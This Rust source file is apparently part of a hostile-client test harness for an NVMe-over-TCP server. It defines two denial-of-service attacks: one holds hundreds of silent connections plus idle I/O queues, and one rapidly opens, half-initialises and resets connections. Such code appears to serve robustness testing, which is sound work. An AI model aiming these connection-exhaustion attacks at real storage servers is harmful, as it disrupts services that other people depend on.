//! Connections that are only there.

use super::{Attack, Attacker};
use crate::hostile::wire::{Session, open, reset};
use pumice_nvme::pdu::{Digests, IcReq};
use std::collections::VecDeque;
use std::io::{self, Write};
use std::net::TcpStream;

/// Silent connections of an attacker, and idle queues.
const SILENT: usize = 400;
const QUEUES: u16 = 32;

struct Silence {
    silent: VecDeque<TcpStream>,
    _admin: Session,
    queues: Vec<Session>,
    cntlid: u16,
}

pub(super) fn begin_silent(attacker: &mut Attacker) -> io::Result<Box<dyn Attack>> {
    let (admin, cntlid) = Session::associate(&attacker.target, &attacker.who)?;
    Ok(Box::new(Silence { silent: VecDeque::new(), _admin: admin, queues: Vec::new(), cntlid }))
}

impl Attack for Silence {
    fn round(&mut self, attacker: &mut Attacker) -> io::Result<()> {
        if self.queues.len() < usize::from(QUEUES) {
            let which = (self.cntlid, self.queues.len() as u16 + 1, 127);
            let (queue, _) = Session::connect(&attacker.target, &attacker.who, which, Digests::default())?;
            self.queues.push(queue);
        }
        for _ in 0..10 {
            self.silent.push_back(open(&attacker.target, attacker.who.from)?);
        }
        while self.silent.len() > SILENT {
            self.silent.pop_front();
        }
        Ok(())
    }
}

struct Churn;

pub(super) fn begin_churn(_: &mut Attacker) -> io::Result<Box<dyn Attack>> {
    Ok(Box::new(Churn))
}

impl Attack for Churn {
    fn round(&mut self, attacker: &mut Attacker) -> io::Result<()> {
        let mut stream = open(&attacker.target, attacker.who.from)?;
        if attacker.random.once_in(2) {
            stream.write_all(&IcReq { hpda: 0, digests: Digests::default(), maxr2t: 0 }.encode())?;
        }
        if attacker.random.once_in(2) {
            reset(stream);
        }
        Ok(())
    }
}
